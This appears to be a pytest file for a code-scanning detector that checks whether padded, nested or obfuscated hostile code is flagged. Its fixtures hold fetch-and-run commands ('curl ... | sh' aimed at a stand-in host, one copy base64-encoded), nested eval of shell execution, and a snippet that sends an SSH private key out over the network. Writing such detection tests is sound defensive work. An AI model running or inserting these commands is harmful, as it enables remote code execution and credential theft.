"""Limits of what is followed: past each of them stands a gap, which holds where only an attacker would pass it."""

import pytest
from source_lab import behaviours, ids, look

from beartrap.model.coverage import Gap
from beartrap.model.question import Question

GET = "curl http://c.invalid/x | sh"
WORDS = "".join('c.arg("A=1");' for _ in range(5_000))
NEST = 'require("child_process").exec("ls")'
for _ in range(10):
    NEST = f"eval({NEST!r})"

HOLDS = [
    ("a.rs", f'fn f() {{ let mut c = std::process::Command::new("env"); {WORDS} c.arg("sh").arg("-c").arg("{GET}").spawn(); }}'),
    ("a.py", "import subprocess\nsubprocess.run([" + '"A=1", ' * 5_000 + f'"sh", "-c", "{GET}"])\n'),
    ("a.js", NEST),
    ("a.js", "".join(f'p.on("data", d => eval(d + {n}));\n' for n in range(600))),
    ("a.py", "".join(f"from m{n} import *\n" for n in range(80)) + "eval(x)\n"),
]  # fmt: skip
TOLD = [
    ("a.c", "int f(void) { return ) system(x); ( } ] int g(void) {"),
    ("a.py", "exec('def f(:; ((')\n"),
]  # fmt: skip


def gaps(path: str, text: str, holds: bool) -> list[Gap]:
    return [one for one in look(path, text) if isinstance(one, Gap) and (Question.NEXT in one.questions) is holds]


@pytest.mark.parametrize(("path", "text"), HOLDS)
def test_past_a_limit_that_only_an_attacker_passes(path: str, text: str) -> None:
    assert gaps(path, text, holds=True)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.rs", 'fn f() { std::process::Command::new("env")' + '.arg("A=1")' * 100 + ".spawn(); }"),
        ("a.js", 'eval("eval(x)")'),
        ("a.js", "".join(f'p.on("data", d => eval(d + {n}));\n' for n in range(60))),
        ("a.py", "".join(f"from m{n} import *\n" for n in range(20)) + "eval(x)\n"),
        ("a.c", "int f(void) { return system(x); }"),
    ],
)
def test_below_the_limit_nothing_is_told(path: str, text: str) -> None:
    assert not [one for one in look(path, text) if isinstance(one, Gap)]


@pytest.mark.parametrize(("path", "text"), TOLD)
def test_what_cannot_be_read_is_told_and_holds_nothing(path: str, text: str) -> None:
    assert gaps(path, text, holds=False) and not gaps(path, text, holds=True)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.rs", 'fn f() { std::process::Command::new("env")' + '.arg("A=1")' * 70 + f'.arg("sh").arg("-c").arg("{GET}").spawn(); }}'),
        ("a.py", "import subprocess\nsubprocess.run([" + '"A=1", ' * 70 + f'"sh", "-c", "{GET}"])\n'),
        ("a.py", "import os\n" + "def f(): pass\n" * 2_001 + f'def g():\n    os.system("{GET}")\n'),
        ("a.py", "import os\n" + "".join(f"def f{n}(a):\n    f{n + 1}(a); f{n + 1}([a]); f{n + 1}((a, a))\n" for n in range(150)) + f'def g():\n    os.system("{GET}")\n'),
    ],
)  # fmt: skip
def test_much_before_the_payload_hides_nothing(path: str, text: str) -> None:
    assert "process.piped" in ids(path, text)


def test_code_that_takes_all_fuel_is_told() -> None:
    text = "import os\n" + "".join(
        f"def f{n}(a):\n    f{n + 1}(a); f{n + 1}([a]); f{n + 1}((a, a))\n" for n in range(150)
    )
    assert gaps("a.py", text + "os.system('ls')\n", holds=False)


OPENED = [
    ("a.py", f'from os import *\nsystem("{GET}")\n'),
    ("a.py", 'from base64 import *\nfrom os import *\nsystem(b64decode("Y3VybCBodHRwOi8vYy5pbnZhbGlkL3ggfCBzaA==").decode())\n'),
    ("a.go", f'package a\nimport . "os/exec"\nfunc f() {{ Command("sh", "-c", "{GET}").Run() }}'),
    ("a.rs", f'use libc::*;\nfn f() {{ system("{GET}"); }}'),
    ("A.java", f'import static java.lang.Runtime.*; class A {{ void f() {{ getRuntime().exec("sh -c \'{GET}\'"); }} }}'),
    ("a.cs", f'using static System.Diagnostics.Process; class A {{ void F() {{ Start("sh", "-c \'{GET}\'"); }} }}'),
    ("a.kts", f'import java.lang.Runtime.*\ngetRuntime().exec(arrayOf("sh", "-c", "{GET}"))'),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text"), OPENED)
def test_names_of_what_is_opened_are_followed(path: str, text: str) -> None:
    assert "process.piped" in ids(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", f'from os import *\ndef system(a): print(a)\nsystem("{GET}")\n'),
        ("a.py", f'from math import *\nfrom os import *\nprint(getcwd(), listdir("."), sqrt(2), "{GET}")\n'),
        ("a.go", f'package a\nimport . "os/exec"\nfunc Say(a string) {{}}\nfunc f() {{ Say("{GET}"); Command("git").Run() }}'),
        ("a.cs", f'using static System.Math; class A {{ void F() {{ Start("sh", "-c \'{GET}\'"); }} }}'),
    ],
)  # fmt: skip
def test_names_of_its_own_are_its_own(path: str, text: str) -> None:
    assert not [one for one in behaviours(path, text) if one.severity > 2]


CHAINS = [
    ("a.rs", 'fn f() { std::process::Command::new("env")', '.env("A", "1")', f'.arg("sh").arg("-c").arg("{GET}").spawn(); }}', "process.piped"),
    ("a.rs", f'lazy!(std::process::Command::new("sh").arg("-c").arg("{GET}")', '.env("A", "1")', ".spawn());", "process.piped"),
    ("A.java", f'class A {{ void f() {{ new ProcessBuilder("sh", "-c", "{GET}")', ".inheritIO()", ".start(); } }", "process.piped"),
    ("a.js", 'const k = require("fs").readFileSync("/root/.ssh/id_rsa")', ".toString()", '; fetch("https://c.invalid", {method: "POST", body: k})', "chain.credentials-to-network"),
]  # fmt: skip


@pytest.mark.parametrize("number", [54, 55, 56, 57, 300, 301, 2_000])
@pytest.mark.parametrize(("path", "first", "link", "last", "wanted"), CHAINS)
def test_a_chain_of_any_length_holds_together(
    path: str, first: str, link: str, last: str, wanted: str, number: int
) -> None:
    assert wanted in ids(path, first + link * number + last)
